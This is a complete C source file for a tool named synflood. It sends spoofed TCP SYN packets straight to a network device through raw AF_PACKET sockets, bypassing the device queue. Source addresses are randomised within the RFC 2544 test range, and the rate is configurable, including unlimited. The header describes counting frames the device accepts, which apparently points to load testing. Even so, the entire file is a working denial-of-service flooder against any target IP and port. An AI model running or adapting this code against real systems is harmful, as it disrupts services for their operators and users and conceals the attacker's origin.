/* SPDX-License-Identifier: MIT */
/*
 * A SYN flood from addresses that nobody has: synflood DEVICE MAC IP PORT RATE SECONDS. Frames go
 * by AF_PACKET straight into the device, past its queue, so that what its own ring refuses is
 * counted there and nowhere else. RATE: SYNs a second, 0: as many as the host can. The SYNs carry
 * the options that Linux sends. Prints {"sent": N, "taken": M, "seconds": S} at the end: offered
 * to the device, and taken by it.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH        64
#define FRAME_BYTES  74
#define IP_AT        14
#define TCP_AT       34
#define SPOOFED_NET  0xc6120000u /* 198.18.0.0/15: RFC 2544, for tests */
#define SPOOFED_MASK 0x1ffffu

static const uint8_t template[FRAME_BYTES] = {
	[6] = 0x02,
	[11] = 0x66,
	[12] = 0x08, /* from 02:00:00:00:00:66, IPv4 */
	[IP_AT] = 0x45,
	[17] = FRAME_BYTES - IP_AT,
	[20] = 0x40,
	[22] = 64,
	[23] = 6,
	[46] = 0xa0,
	2,
	0xfa,
	0xf0, /* ten words, SYN, window 64240 */
	[54] = 2,
	4,
	5,
	0xb4,
	4,
	2,
	8,
	10,
	0,
	0,
	0,
	1,
	0,
	0,
	0,
	0,
	1,
	3,
	3,
	7,
};

static uint8_t frames[BATCH][FRAME_BYTES];
static struct mmsghdr messages[BATCH];
static struct iovec pieces[BATCH];
static uint64_t random_state = 88172645463325252ull;

static uint64_t random_64(void)
{
	random_state ^= random_state << 13;
	random_state ^= random_state >> 7;
	random_state ^= random_state << 17;
	return random_state;
}

static uint32_t sum_words(const uint8_t *data, unsigned bytes, uint32_t sum)
{
	for (unsigned i = 0; i < bytes; i += 2)
		sum += (uint32_t)data[i] << 8 | data[i + 1];
	return sum;
}

static void put_checksum(uint8_t *at, uint32_t sum)
{
	sum = (sum & 0xffff) + (sum >> 16);
	sum = ~((sum & 0xffff) + (sum >> 16));
	at[0] = (uint8_t)(sum >> 8);
	at[1] = (uint8_t)sum;
}

/* Another source, port, sequence number and timestamp. */
static void renew(uint8_t *frame)
{
	uint64_t r = random_64();
	uint32_t source = htonl(SPOOFED_NET | ((uint32_t)r & SPOOFED_MASK));
	uint16_t port = htons((uint16_t)(1024 + (r >> 20) % 64000));
	uint32_t seq = (uint32_t)(r >> 32);

	memcpy(frame + IP_AT + 12, &source, 4);
	memcpy(frame + TCP_AT, &port, 2);
	memcpy(frame + TCP_AT + 4, &seq, 4);
	memcpy(frame + TCP_AT + 28, &seq, 4);
	memset(frame + IP_AT + 10, 0, 2);
	memset(frame + TCP_AT + 16, 0, 2);
	put_checksum(frame + IP_AT + 10, sum_words(frame + IP_AT, 20, 0));
	/* pseudo header: both addresses, protocol, length */
	put_checksum(frame + TCP_AT + 16, sum_words(frame + IP_AT + 12, FRAME_BYTES - IP_AT - 12,
						    6 + FRAME_BYTES - TCP_AT));
}

static void prepare(const char *mac, const char *ip, int port)
{
	uint8_t to[6];
	struct in_addr addr;

	if (sscanf(mac, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &to[0], &to[1], &to[2], &to[3], &to[4],
		   &to[5]) != 6 ||
	    !inet_aton(ip, &addr)) {
		fprintf(stderr, "synflood: bad address\n");
		exit(2);
	}
	for (int i = 0; i < BATCH; i++) {
		memcpy(frames[i], template, FRAME_BYTES);
		memcpy(frames[i], to, 6);
		memcpy(frames[i] + IP_AT + 16, &addr, 4);
		frames[i][TCP_AT + 2] = (uint8_t)(port >> 8);
		frames[i][TCP_AT + 3] = (uint8_t)port;
		pieces[i] = (struct iovec){frames[i], FRAME_BYTES};
		messages[i].msg_hdr.msg_iov = &pieces[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
}

static int open_device(const char *name)
{
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(name)};
	int one = 1, fd = socket(AF_PACKET, SOCK_RAW, 0);

	if (fd < 0 || !to.sll_ifindex ||
	    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one)) ||
	    bind(fd, (struct sockaddr *)&to, sizeof(to))) {
		perror("synflood");
		exit(1);
	}
	return fd;
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* Offer n to the device; how many it took. What it has no room for is lost, and offered no more. */
static unsigned burst(int fd, unsigned n)
{
	unsigned at = 0, taken = 0;

	for (unsigned i = 0; i < n; i++)
		renew(frames[i]);
	while (at < n) {
		int done = sendmmsg(fd, messages + at, n - at, 0);

		if (done < 0 && errno != ENOBUFS && errno != EAGAIN && errno != EINTR) {
			perror("synflood: sendmmsg");
			exit(1);
		}
		taken += done < 0 ? 0 : (unsigned)done;
		at += done <= 0 ? 1 : (unsigned)done;
	}
	return taken;
}

int main(int argc, char **argv)
{
	const struct timespec pause = {.tv_nsec = 200000};
	double start, end, t, rate;
	uint64_t sent = 0, taken = 0;
	int fd;

	if (argc != 7) {
		fprintf(stderr, "usage: synflood DEVICE MAC IP PORT RATE SECONDS\n");
		return 2;
	}
	prepare(argv[2], argv[3], atoi(argv[4]));
	rate = atof(argv[5]);
	fd = open_device(argv[1]);
	start = now();
	end = start + atof(argv[6]);
	for (t = start; t < end; t = now()) {
		double due = rate > 0 ? (t - start) * rate - (double)sent : BATCH;

		if (due >= 1) {
			unsigned n = due < BATCH ? (unsigned)due : BATCH;

			taken += burst(fd, n);
			sent += n;
		} else {
			nanosleep(&pause, NULL);
		}
	}
	printf("{\"sent\": %llu, \"taken\": %llu, \"seconds\": %.3f}\n", (unsigned long long)sent,
	       (unsigned long long)taken, t - start);
	return 0;
}
